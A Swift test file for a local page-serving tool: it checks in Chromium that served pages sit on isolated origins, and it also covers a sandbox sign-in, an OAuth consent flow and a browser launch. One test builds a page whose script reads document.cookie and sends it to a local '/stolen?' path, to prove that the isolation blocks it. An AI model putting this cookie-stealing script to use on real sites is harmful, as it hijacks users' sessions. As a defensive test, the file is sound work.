import Chromium
import Foundation
import Notation
import Synchronization
import TestSupport
import Testing

/// Pages of others in a real browser, beside another program of this machine that has set a cookie.
@Suite struct PageOriginTests {
    /// A local program with a cookie; it stores the requests.
    private final class OtherProgram: Sendable {
        private let heads = Heads()
        private let server: RawInstance

        private final class Heads: Sendable {
            let all = Mutex<[String]>([])
        }

        init() {
            server = RawInstance { [heads] request in
                heads.all.withLock { $0.append(request) }
                return RawInstance.answer(type: "text/html", ["Set-Cookie: session=of-the-user"], body: "signed in")
            }
        }

        var address: String { server.address }
        /// The paths that were requested since the last call.
        func takePaths() -> [String] {
            heads.all.withLock { heads in
                defer { heads = [] }
                return heads.map { String($0.split(separator: " ").dropFirst().first ?? "") }
                    .filter { $0 != "/favicon.ico" }
            }
        }
    }

    /// An instance whose page reads cookies and sends them away.
    private static func thief(_ other: OtherProgram) -> RawInstance {
        let page = """
            <!doctype html><title>x</title><style>body { color: rgb(1, 2, 3) }</style><body>
            <a href="http://HOST/next.do">next</a><script src="/own.js"></script>
            <script>
            const away = '\(other.address)/stolen?' + document.cookie;
            var tried = Promise.all([
              fetch(away, {mode: 'no-cors'}).then(() => 'sent', () => 'blocked'),
              new Promise(done => {
                const image = new Image(); image.onload = image.onerror = () => done('tried'); image.src = away }),
              fetch('/own.json').then(answer => answer.text()),
            ]).then(how => [document.cookie.includes('of-the-user'), how[0], how[2], document.title,
              getComputedStyle(document.body).color, location.hostname,
              document.links[0].host == location.host]);
            </script>
            """
        return RawInstance { request in
            switch request.split(separator: " ").dropFirst().first {
            case "/own.js": RawInstance.answer(type: "text/javascript", body: "document.title = 'own script'")
            case "/own.json": RawInstance.answer(body: "{}")
            default:
                // A link with the instance's own address.
                RawInstance.answer(
                    type: "text/html",
                    body: page.replacing(
                        "HOST",
                        with: request.split(separator: "\r\n").first { $0.hasPrefix("Host: ") }?.dropFirst(6) ?? ""))
            }
        }
    }

    /// What a page at an address sees and sends, after the user signed in at the other program.
    private func visit(_ address: String, beside other: OtherProgram) async throws -> (seen: JSON, paths: [String]) {
        let seen = try await ChromiumSession.with(
            try ChromiumProgram.find(path: nil), environment: ["PATH": "/usr/bin:/bin"], timeout: .seconds(600)
        ) { browser in
            try await browser.navigate(to: other.address + "/")
            try await browser.navigate(to: address)
            return try await browser.evaluate("tried")
        }
        return (seen, other.takePaths())
    }

    @Test func servedPageReadsNoCookieOfOtherPrograms() async throws {
        let other = OtherProgram()
        let instance = Self.thief(other)
        // At the address of all programs, it succeeds.
        let stolen = try await visit(instance.address + "/page.do", beside: other)
        #expect(stolen.seen[0] == true && stolen.seen[1] == "sent" && stolen.seen[5] == "127.0.0.1")
        #expect(stolen.paths.count { $0 == "/stolen?session=of-the-user" } == 2, "\(stolen)")

        let workspace = try Workspace()
        for arguments in [
            ["--tape", "kept", "serve", "record", "--to", instance.address], ["serve", "replay", "kept"],
        ] {
            let served = try await BrowserSession(serving: workspace, arguments)
            let page = try await visit(served.address + "/page.do", beside: other)
            let ended = await served.end()
            let host = page.seen[5]?.scalarText ?? ""
            #expect(
                page.seen == [false, "blocked", "{}", "own script", "rgb(1, 2, 3)", .string(host), true],
                "\(page) \(ended)")
            #expect(host.hasSuffix(".localhost") && host.count == 42)
            #expect(page.paths == ["/"], "\(arguments)")
            #expect(ended.errors.contains("http://\(host):"), "\(ended)")
        }
        // Programs still get the recorded bytes at the usual address.
        let replay = try await BrowserSession(serving: workspace, ["serve", "replay", "kept"])
        let got = try await workspace.runOther("curl", "-sS", "-D", "-", replay.address + "/own.json")
        #expect(got.output.hasSuffix("\r\n\r\n{}") && !got.output.contains("Content-Security-Policy"), "\(got)")
        _ = await replay.end()
    }

    /// A sign-in and a form of the sandbox, and its consent, which ends at an application with another address.
    @Test func sandboxIsUsedInBrowser() async throws {
        let workspace = try Workspace()
        let sandbox = try await ServedSandbox(workspace)
        let address = sandbox.address, application = OtherProgram()
        let challenge = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw_cM"
        let consent =
            "/oauth_auth.do?response_type=code&client_id=snowdeck-public&state=s1&code_challenge_method=S256"
            + "&code_challenge=\(challenge)&redirect_uri=\(application.address)/callback"
        let seen = try await ChromiumSession.with(
            try ChromiumProgram.find(path: nil), environment: ["PATH": "/usr/bin:/bin"], timeout: .seconds(600)
        ) { browser in
            try await browser.navigate(to: address + "/login.do")
            try await browser.follow(
                """
                (() => {
                  const form = document.forms[0];
                  form.elements['user_name'].value = 'admin';
                  form.elements['user_password'].value = 'admin';
                  form.querySelector('button').click();
                })()
                """)
            try await browser.follow("location.href = '/incident.do?sysparm_query=number=INC0010002'")
            let seen = try await browser.evaluate("[document.title, location.hostname]")
            try await browser.follow("location.href = '\(consent)'")
            try await browser.follow("document.querySelector('button[value=allow]').click()")
            for _ in 0..<1200 where try await browser.evaluate("location.pathname") != "/callback" {
                try await Task.sleep(for: .milliseconds(50))
            }
            return seen
        }
        let callback = application.takePaths()
        #expect(callback.count == 1 && callback[0].hasPrefix("/callback?") && callback[0].contains("state=s1"))
        #expect(seen[0] == "Incident INC0010002 | Sandbox", "\(seen)")
        let host = seen[1]?.scalarText ?? ""
        let ended = await sandbox.end()
        #expect(
            ended.errors.hasSuffix("\nBrowsers are shown pages at \(address.replacing("127.0.0.1", with: host)).\n"))
    }

    /// The address of `page browse` is in a private file, which a real browser follows.
    @Test func browserIsOpenedWithPrivateFile() async throws {
        let workspace = try Workspace()
        try workspace.write("printf '%s\\n' \"$@\" >arguments.new; mv arguments.new arguments", to: "browser.sh")
        let live = try await BrowserSession(
            workspace, ["page", "browse", "incident_list.do?sysparm_query=number=INC0010002"],
            variables: ["BROWSER": "sh browser.sh %s"])
        for _ in 0..<6000 where !FileManager.default.fileExists(atPath: workspace.path("arguments")) {
            try await Task.sleep(for: .milliseconds(5))
        }
        let argument = try workspace.text(of: "arguments").split(separator: "\n").joined()
        let folder = workspace.home + "/state/snowdeck/snowdeck-pages"
        #expect(argument.hasPrefix("file://\(folder)/") && !argument.contains("localhost"), "\(argument)")
        let title = try await live.browse(workspace) { browser in
            try await browser.navigate(to: argument)
            for _ in 0..<6000 {
                let seen = try await browser.evaluate("[document.title, location.pathname]")
                if seen[1] == "/incident_list.do" { return seen[0] }
                try await Task.sleep(for: .milliseconds(50))
            }
            return nil
        }
        #expect(title == "Incidents | Sandbox")
        let ended = await live.end()
        #expect(ended.status == 0 && ended.errors.contains("Opened in the browser"), "\(ended)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder) == [])
    }
}
